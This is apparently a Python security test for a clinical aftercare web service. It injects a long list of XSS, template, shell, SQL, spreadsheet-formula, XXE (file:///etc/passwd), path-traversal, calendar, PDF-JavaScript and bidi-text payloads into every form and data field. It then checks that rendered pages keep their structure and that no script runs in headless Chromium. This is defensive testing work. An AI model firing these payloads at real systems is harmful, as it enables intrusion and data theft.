#!/usr/bin/env python3
"""injection.py - script injection in every text slot that a user can feed: the same visit is played with plain text and with each
vector, over the real nginx. What comes out must have the same structure, whatever the text is, and nothing may execute in a
browser that ignores our Content-Security-Policy."""
import html.parser, json, os, re, subprocess, sys, unicodedata
import xml.etree.ElementTree as ET
from harness import *

PLAIN = "plain text"
WANTED = 250
RUN = "top.postMessage(1,`*`)"  # what the browser would do; the driver page counts it


def vectors():
    bodies = [
        f"<script>{RUN}</script>", f"<ScRiPt>{RUN}</sCrIpT >", f"<script/x>{RUN}</script>", f"<script\n>{RUN}</script\n>", f"<<script>{RUN}//<</script>",
        "<script src=//x.invalid/x.js></script>", f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<img src=x onerror={RUN}>", f"<img/src=x/onerror={RUN}>",
        f"<IMG SRC=x OnErRoR={RUN}>", f"<svg onload={RUN}>", f"<svg/onload={RUN}>", f"<svg><script>{RUN}</script></svg>", f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
        f"<svg><a xlink:href=javascript:{RUN}><text>x</text></a></svg>", f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></foreignObject></svg>",
        f"<math><mtext></mtext><script>{RUN}</script></math>", f"<math href=javascript:{RUN}>x</math>", f"<body onload={RUN}>", f"<iframe srcdoc='<script>{RUN}</script>'></iframe>",
        f"<iframe src=javascript:{RUN}></iframe>", f"<object data=javascript:{RUN}></object>", f"<embed src=javascript:{RUN}>", f"<a href=javascript:{RUN}>x</a>",
        f"<a href='java\tscript:{RUN}'>x</a>", f"<a href='java\nscript:{RUN}'>x</a>", f"<a href=' &#1; javascript:{RUN}'>x</a>", f"<a href='&#106;avascript:{RUN}'>x</a>",
        f"<a href=data:text/html,<script>{RUN}</script>>x</a>", f"<form action=javascript:{RUN}><input type=submit>", f"<button formaction=javascript:{RUN}>x</button>",
        f"<details open ontoggle={RUN}>", f"<video><source onerror={RUN}></video>", f"<audio src=x onerror={RUN}>", f"<input autofocus onfocus={RUN}>",
        f"<select autofocus onfocus={RUN}>", f"<textarea autofocus onfocus={RUN}>", f"<marquee onstart={RUN}>", f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
        f"<link rel=stylesheet href=javascript:{RUN}>", f"<base href=javascript:{RUN}//>", f"<style>@import 'javascript:{RUN}'</style>", f"<style onload={RUN}></style>",
        f"<template><script>{RUN}</script></template>", f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>", f"<title><img src=x onerror={RUN}></title>",
        f"<xmp><script>{RUN}</script></xmp>", f"<plaintext><script>{RUN}</script>", f"<isindex action=javascript:{RUN} type=image>", f"<keygen autofocus onfocus={RUN}>",
        f"<table background=javascript:{RUN}>", f"<div style=background:url(javascript:{RUN})>", f"<p style=x:expression({RUN})>", f"<x onclick={RUN}>x</x>", f"<x contenteditable onblur={RUN}>x</x>",
    ]
    breakouts = ["", "\">", "'>", "-->", "]]>", "</title>", "</style>", "</textarea>", "</svg>", "</select>", "</td></tr></table>", "?>", "`>", "&quot;>", "&#34;>"]
    others = [
        f"\" onmouseover={RUN} x=\"", f"' onmouseover={RUN} x='", f"\" autofocus onfocus={RUN} x=\"", f"\"onload={RUN} ", f"x\" style=\"background:url(javascript:{RUN})",
        "<!--", "-->", "--!>", "<![CDATA[", "]]>", "<?xml-stylesheet href='javascript:x'?>", "<?php echo 1 ?>", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;", "&e;", "&lt;script&gt;",
        "&#60;script&#62;", "&#x3c;script&#x3e;", "%3Cscript%3E", "\\u003cscript\\u003e", "\\x3cscript\\x3e", "＜script＞", "‹script›", "<script>",
        "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{%raw%}", "`id`", "$(id)", "; id", "| id", "'; DROP TABLE plan; --", "\" OR 1=1 --", "%s%n%x", "%00", "..\\..\\x", "../../../etc/passwd",
        "file:///etc/passwd", "//x.invalid/x", "http://x.invalid/", f"javascript:{RUN}", "data:text/html;base64,PHNjcmlwdD4=", "vbscript:x", "mailto:x@x.invalid", "tel:+1;x=\"",
        "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.invalid\")", "\t=1+1", "x,y\"z\";w",
        "\",\"x\":{\"y\":[1", "\\", "\\\"", "'", "\"", "\"\"\"", "</", "<", ">", "&", "&&&", "&amp;", "&amp;amp;", "&nosuch;", "&#0;", "&#xD800;", "&#x110000;",
        "END:VEVENT\nBEGIN:VALARM\nACTION:DISPLAY", "x\r\nX-INJECTED: 1", "x\nATTACH:http://x.invalid", "x;VALUE=URI:http://x.invalid", "x\\nATTENDEE:mailto:x", "Set-Cookie: x=y", "x\r\n\r\n<html>",
        "1.2.840.1\"><x/>", "urn:uuid:\"/>", ") Tj ET /JS (app.alert(1)) /S /JavaScript", "<</S/JavaScript/JS(app.alert(1))>>", "endstream endobj", "\\(\\)\\\\",
        "\u202egnp.exe", "\u2066\u2067x\u2069", "\u200f\u200e\u061c", "a\u0300" + "\u0301" * 60, "\u2028\u2029", "\ufeffx", "\ufffe\uffff", "\ufffd", "\U0001f469\u200d\U0001f469\u200d\U0001f467", "\u00ad\u200b\u2060",
        "İıſK", "ß" * 3, "𝒳", "한국어 中文 العربية עברית", "W" * 300, "x " * 150, "\t\t\t", "  x  ", "x\n\n\n\ny", "0", "null", "true", "[object Object]", "NaN", "-0", "1e999",
        "}body{display:none}", "x{}*{background:url(//x.invalid)}", "</style><style>*{color:red}", "expression(1)", "\\3c script\\3e", "@charset \"x\";", "/**/", "//", "<!--[if IE]><x><![endif]-->",
    ]
    seen = {}
    for v in bodies + others:
        seen[v] = 1
    for i, b in enumerate(bodies):
        for k in range(3):
            seen[breakouts[1 + (3 * i + k) % (len(breakouts) - 1)] + b] = 1
    return list(seen)


class Shape(html.parser.HTMLParser):
    """The structure of a page: elements and their attributes, without text. Links must stay our own."""
    SAFE = re.compile(r"(/aftercare/|/visit/|/$|#|tel:[+0-9]*$|\.\./|[a-z0-9-]+(/|$|\?))")

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.v, self.faults = [], []

    def handle_starttag(self, tag, attrs):
        names = [a for a, _ in attrs]
        self.v.append("<" + tag + " " + " ".join(names))
        if tag in ("script", "iframe", "object", "embed", "base", "foreignobject", "template"):
            self.faults.append(tag)
        for a, value in attrs:
            if a.startswith("on") or a in ("srcdoc", "style"):
                self.faults.append(a)
            if a in ("href", "src", "action", "formaction", "xlink:href", "data", "poster", "background") and not self.SAFE.match(value or ""):
                self.faults.append(f"{a}={value}")

    def handle_endtag(self, tag):
        self.v.append("/" + tag)

    def handle_comment(self, data):
        self.v.append("<!--")

    def handle_decl(self, decl):
        self.v.append("<!" + decl)

    def handle_pi(self, data):
        self.v.append("<?")

    def unknown_decl(self, data):
        self.v.append("<![")


def html_shape(text):
    p = Shape()
    p.feed(text)
    p.close()
    return p.v, p.faults


def xml_shape(data):
    """Elements, attributes and instructions; `data` must be well-formed, without a document type."""
    faults = ["DOCTYPE"] if b"<!DOCTYPE" in data else []
    v = []
    for event, x in ET.iterparse(__import__("io").BytesIO(data), ["start", "end", "comment", "pi"]):
        # a text may look like a language or an OID, then it is a code instead of a nullFlavor: nothing else may depend on it
        names = [] if x.tag.rpartition("}")[2] in ("telecom", "languageCode", "preferenceInd") else sorted(set(x.attrib) - {"assigningAuthorityName"})
        v.append(event + " " + (str(x.tag) + " " + " ".join(names) if event in ("start", "end") else ""))
        if event == "start" and x.tag.rpartition("}")[2] in ("script", "nonXMLBody"):
            faults.append(x.tag)
    return v, faults


def json_shape(x):
    if isinstance(x, dict):
        return {k: json_shape(v) for k, v in sorted(x.items())}
    if isinstance(x, list):
        return [json_shape(v) for v in x]
    return type(x).__name__


def calendar_shape(text):
    unfolded = re.sub(r"\r\n[ \t]", "", text)
    return [re.match(r"[A-Z-]*", line).group(0) for line in unfolded.split("\r\n")], [] if "\n" not in unfolded.replace("\r\n", "") else ["bare newline"]


def terminal_faults(text):
    return [hex(ord(c)) for c in text if (unicodedata.category(c) == "Cc" and c not in "\n\t") or c in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c"]


FULL = json.load(open(os.path.join(TOP, "tests/good/snapshot/full.json")))
FIXED = {"schema", "status", "start", "end", "zone", "signed", "performed", "birth_date", "deceased", "kind", "site", "follow_up_of"}
IDS = {"id", "value", "code", "npi"}  # at most 128 bytes, no control characters


def filled(node, text, name=""):
    """`node` with `text` in every slot that takes free text."""
    if isinstance(node, dict):
        return {k: filled(v, text, k) for k, v in node.items()}
    if isinstance(node, list):
        return [filled(v, text, name) for v in node]
    if not isinstance(node, str) or name in FIXED:
        return node
    if name == "language":
        return "zz-" + text  # none that we know: which it is decides what the page says of it
    if name in IDS:
        return node if name in ("id", "npi") else "".join(c for c in text if ord(c) >= 32 and c != "\x7f").encode()[:100].decode(errors="ignore") or "x"
    return text


def visit(id, text):
    """A treatment that the demonstration's protocol knows, with every optional member of the full example, all text replaced."""
    s = filled(FULL, text)
    known = snapshot(id)
    s["source"] = known["source"]
    s["encounter"] = dict(s["encounter"], **known["encounter"])
    for gone in ("signed", "signed_by", "follow_up_of"):
        s["encounter"].pop(gone, None)
    s["patient"]["id"] = known["patient"]["id"]
    s["patient"].pop("deceased", None)
    procedures = s.get("procedures") or [{}]
    s["procedures"] = [dict(procedures[0], **{k: v for k, v in known["procedures"][0].items() if k != "text"})]
    s["procedures"][0]["products"] = [{"name": text, "lot": text, "expires": text}]
    s["facts"] = dict(known["facts"], remark=text, list=[text])
    s["appointments"] = []
    return s


def fill_form(form, text):
    """The answer of somebody who writes `text` wherever the form lets them and takes the first of each choice."""
    f = {}
    for tag in re.findall(r"<input\b[^>]*>", form):
        a = dict(re.findall(r'([a-z-]+)="([^"]*)"', tag))
        kind, name = a.get("type", "text"), a.get("name")
        if not name:
            continue
        if kind in ("hidden", "date", "time", "datetime-local", "number"):
            f.setdefault(name, html.unescape(a.get("value", "")))
        elif kind in ("radio", "checkbox"):
            f.setdefault(name, html.unescape(a.get("value", "on")))
        elif kind not in ("submit", "button", "reset"):
            f[name] = text
    for name in re.findall(r'<textarea\b[^>]*name="([^"]*)"', form):
        f[name] = text
    for name, inner in re.findall(r'<select\b[^>]*name="([^"]*)"[^>]*>(.*?)</select>', form, re.S):
        values = [v for v in re.findall(r'<option\b[^>]*value="([^"]*)"', inner) if v]
        if values:
            f[name] = html.unescape(values[0])
    return f


def forms_with_text(page):
    for form in re.findall(r"<form\b[^>]*>.*?</form>", page, re.S):
        action = re.search(r'action="([^"]*)"', form)
        is_text = re.search(r"<textarea|<input(?![^>]*type=)|<input[^>]*type=\"(text|search|tel)\"", form)
        if action and 'method="post"' in form and is_text:
            yield html.unescape(action.group(1)), form


def play(d, id, text, claim):
    """The visit from event to document; what came out, by name."""
    out = {}
    s = visit(id, text)
    status, r = d.put(s)
    if status != 201:
        return status, r
    out["answer.json"] = r
    plan = r["plan"]["id"]
    panel_path = f"/aftercare/panel/demo/{id}"

    def page(name, path, user="clinician"):
        status, headers, data = d.request("GET", path, user=user)
        claim(status < 500, f"{name} is answered", (status, text))
        if status == 200:
            out[name] = data

    def send(where):
        """Every form of the page that takes text; a form that was answered is gone, so the page is asked for again."""
        done = set()
        for _ in range(12):
            _, page_now = d.page(where, "clinician")
            rest = [(a, f) for a, f in forms_with_text(page_now) if (a.split("?")[0], len(re.findall("<input", f))) not in done]
            if not rest:
                return
            action, form = rest[0]
            done.add((action.split("?")[0], len(re.findall("<input", form))))
            status, _, _ = d.post(action, fill_form(form, text), "clinician")
            claim(status < 500, f"a form of {where} is answered", (status, action, text))

    send(panel_path)
    page("panel.html", panel_path)
    status, panel = d.page(panel_path, "nurse")
    try:
        action, f = fields(panel, "/issue")
        f.update(language="en", recipient="patient", medium="paper")
        status, h, _ = d.post(action, f, "nurse")
        if status == 303:
            page("sheet.html", h["location"], "nurse")
            page("calendar.ics", h["location"].split("?")[0] + "/calendar", "nurse")
            page("sheet.pdf", h["location"].split("?")[0] + "/pdf", "nurse")
    except AssertionError:
        pass
    s["encounter"].update(revision=2, signed=stamp(0), signed_by=s.get("provider"))
    status, r = d.put(s)
    out["signed.json"] = r
    send(f"/aftercare/plans/{plan}")
    page("plan.html", f"/aftercare/plans/{plan}")
    page("document.html", f"/aftercare/plans/{plan}/documents/1")
    page("document.xml", f"/aftercare/plans/{plan}/documents/1/xml")
    for verb in (("plan", "show", plan), ("plan", "document", plan)):
        out["terminal " + verb[1]] = d.cli(*verb, check=False).stdout if verb[1] == "show" else ""
    return 201, out


HOSTILE = [  # what a document from elsewhere may try, and what of it must still be there to read
    '<linkHtml href="javascript:top.postMessage(1)">read me</linkHtml>', '<linkHtml href="data:text/html,x">read me</linkHtml>', '<linkHtml href="//x.invalid/">read me</linkHtml>',
    '<linkHtml href=" java&#9;script:x">read me</linkHtml>', '<paragraph onclick="x()" onmouseover="x()" styleCode="x:expression(1)">read me</paragraph>',
    '<renderMultiMedia referencedObject="//x.invalid/x.png"/><paragraph>read me</paragraph>', '<h:script xmlns:h="http://www.w3.org/1999/xhtml">top.postMessage(1,`*`)</h:script><paragraph>read me</paragraph>',
    '<h:iframe xmlns:h="http://www.w3.org/1999/xhtml" src="javascript:x">read me</h:iframe>', '<table onload="x()" background="javascript:x"><tbody><tr><td style="x">read me</td></tr></tbody></table>',
    '<s:svg xmlns:s="http://www.w3.org/2000/svg" onload="top.postMessage(1,`*`)"><s:script>x</s:script><s:text>read me</s:text></s:svg>',
    '<content ID="&quot;&gt;&lt;script&gt;" revised="delete">read me</content>', '<footnoteRef IDREF="javascript:x"/><paragraph>read me</paragraph>',
]


def foreign(narrative, before="", title="T", body=None):
    text = f"<component><section><title>{title}</title><text>{narrative}</text></section></component>"
    return (f'<?xml version="1.0" encoding="UTF-8"?>{before}<ClinicalDocument xmlns="urn:hl7-org:v3"><id root="1.2"/><code code="x"/><title>{title}</title>'
            f'<effectiveTime value="20260331153500+0200"/><component>{body or "<structuredBody>" + text + "</structuredBody>"}</component></ClinicalDocument>').encode()


def foreign_documents(d, claim, every, files, dir):
    """Any CDA through our stylesheet: hostile content is neutralised, the rest is still shown."""
    def show(data):
        status, h, page = d.request("POST", "/aftercare/v1/view", data, "auditor", type="text/xml")
        return status, page.decode(errors="replace")

    def keep(name, page):
        files.append(name)
        with open(os.path.join(dir, name), "w") as f:
            f.write(page)

    status, plain = show(foreign("<paragraph>plain</paragraph>"))
    claim(status == 200 and "plain" in plain, "a document from elsewhere is shown", status)
    shape = html_shape(plain)[0]
    for i, text in enumerate(every):
        clean = "".join(c for c in text if ord(c) >= 32 and c not in "\ufffe\uffff" or c in "\t\n")
        escaped = html.escape(clean)
        status, page = show(foreign(f"<paragraph>{escaped}</paragraph>", title=escaped))
        claim(status == 200 and html_shape(page) == (shape, []), "its text changes nothing but text", (status, text))
        keep(f"foreign-{i}.html", page)
    for i, narrative in enumerate(HOSTILE):
        status, page = show(foreign(narrative))
        claim(status == 200 and "read me" in page, "hostile content does not hide the rest", (status, narrative))
        claim(not html_shape(page)[1] and "<img" not in page and "<svg" not in page, "and is neutralised", (narrative, html_shape(page)[1]))
        keep(f"hostile-{i}.html", page)
    status, page = show(foreign("read me", before='<?xml-stylesheet type="text/xsl" href="//x.invalid/x.xsl"?>'))
    claim(status == 200 and "read me" in page and "x.invalid" not in page, "its stylesheet instruction is not followed", status)
    status, page = show(foreign("", body='<nonXMLBody><text mediaType="text/html" representation="B64">PHNjcmlwdD4=</text></nonXMLBody>'))
    claim(status == 200 and "PHNj" not in page and not html_shape(page)[1], "a body that is not XML is named, not opened", status)
    status, page = show(foreign("&e;", before="<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>"))
    claim(status in (400, 422) and "root:" not in page, "a document type is refused", status)
    status, _, _ = d.request("POST", "/aftercare/v1/view", foreign("x"), "frontdesk", type="text/xml")
    claim(status == 403, "the front desk does not see documents", status)
    status, _, _ = d.request("POST", "/aftercare/v1/view", foreign("x"), "auditor", type="text/html")
    claim(status == 415, "another type is refused", status)


def shape_of(name, data):
    if name.endswith(".json"):
        return json_shape(data), []
    if name.endswith(".html"):
        return html_shape(data.decode())
    if name.endswith(".xml"):
        return xml_shape(data)
    if name.endswith(".ics"):
        return calendar_shape(data.decode())
    if name.endswith(".pdf"):
        return None, [k for k in ("/JavaScript", "/JS ", "/OpenAction", "/Launch", "/EmbeddedFile", "/URI ") if k.encode() in data]
    return None, terminal_faults(data)


DRIVER = """<!DOCTYPE html><meta charset="utf-8"><title>x</title><p id="n">0</p>
<script>var seen = new Set(), frames = new Map(); addEventListener("message", function (e) { for (const [w, n] of frames) if (w === e.source) seen.add(n);
document.getElementById("n").textContent = seen.size + ":" + Array.from(seen).join(" ") + ";"; });</script>
<body><script>%s.forEach(function (n) { var f = document.createElement("iframe"); f.src = n; document.body.appendChild(f); frames.set(f.contentWindow, n); });</script>"""


def executed(dir, names):
    """Loads the pages in headless Chromium from files, without our headers: which of them ran a script?"""
    got = set()
    for at in range(0, len(names), 60):
        some = names[at:at + 60]
        with open(os.path.join(dir, "driver.html"), "w") as f:
            f.write(DRIVER % json.dumps(some))
        r = subprocess.run(["chromium", "--headless", "--no-sandbox", "--disable-gpu", "--allow-file-access-from-files", "--virtual-time-budget=15000",
                            "--user-data-dir=" + os.path.join(dir, "profile"), "--dump-dom", "file://" + os.path.join(dir, "driver.html")],
                           capture_output=True, text=True, timeout=180)
        m = re.search(r'id="n">([^<]*)<', r.stdout)
        if not m:
            raise AssertionError("Chromium did not show the driver page: " + r.stderr[-500:])
        got.update(n for n in m.group(1).partition(":")[2].rstrip(";").split(" ") if n)
    return got


def main():
    claim = Claims()
    every = vectors()
    claim(len(every) >= WANTED, f"there are at least {WANTED} vectors", len(every))
    if len(sys.argv) > 1:
        every = every[::int(sys.argv[1])]
    with Demo() as d:
        status, plain = play(d, "inject-plain", PLAIN, claim)
        claim(status == 201, "the visit with plain text makes a plan", plain)
        wanted = {name: shape_of(name, data)[0] for name, data in plain.items()}
        for name in ("panel.html", "plan.html", "sheet.html", "sheet.pdf", "calendar.ics", "document.html", "document.xml"):
            claim(name in plain, f"{name} was looked at")
        for name, data in plain.items():
            if name.endswith((".html", ".ics")):
                claim(not shape_of(name, data)[1], f"{name} of plain text has nothing that executes", shape_of(name, data)[1])
        dir = os.path.join(d.dir, "pages")
        os.mkdir(dir)
        files = []
        for i, text in enumerate(every):
            status, got = play(d, f"inject-{i}", text, claim)
            if status != 201:  # refused by a rule: nothing of it is anywhere
                claim(status in (400, 413, 422), "a vector is taken or refused by rule", (text, status, got))
                continue
            claim(set(got) == set(plain), "the same pages are there", (text, set(plain) ^ set(got)))
            for name, data in got.items():
                try:
                    shape, faults = shape_of(name, data)
                except (ET.ParseError, UnicodeDecodeError) as e:
                    claim(False, f"{name} can be parsed", (text, e))
                    continue
                claim(not faults, f"{name} has nothing that executes or escapes", (text, faults))
                if shape is not None and name in wanted and text.strip(): # blank is absent
                    where = next((f"{a!r} {b!r}" for a, b in zip(wanted[name], shape) if a != b), "length") if isinstance(shape, list) else ""
                    claim(shape == wanted[name], f"the structure of {name} is that of plain text", (text, where))
                if name.endswith(".html"):
                    files.append(f"{i}-{name}")
                    with open(os.path.join(dir, files[-1]), "wb") as f:
                        f.write(data)
        foreign_documents(d, claim, every, files, dir)
        status, work = d.page("/aftercare/worklist", "nurse")
        claim(status == 200 and not html_shape(work)[1], "the worklist with all of them has nothing that executes", html_shape(work)[1][:5])
        with open(os.path.join(dir, "worklist.html"), "w") as f:
            f.write(work)
        with open(os.path.join(dir, "control.html"), "w") as f:
            f.write(f"<p>{every[0]}</p>")
        ran = executed(dir, ["control.html", "worklist.html"] + files)
        claim("control.html" in ran, "a page with a script is noticed", ran)
        claim(ran <= {"control.html"}, "nothing executes in the browser", ran)
        claim(d.cli("audit", "verify", check=False).returncode == 0, "the log verifies")
    print(f"{len(every)} vectors, {len(files)} pages in the browser")
    claim.end()


if __name__ == "__main__":
    main()
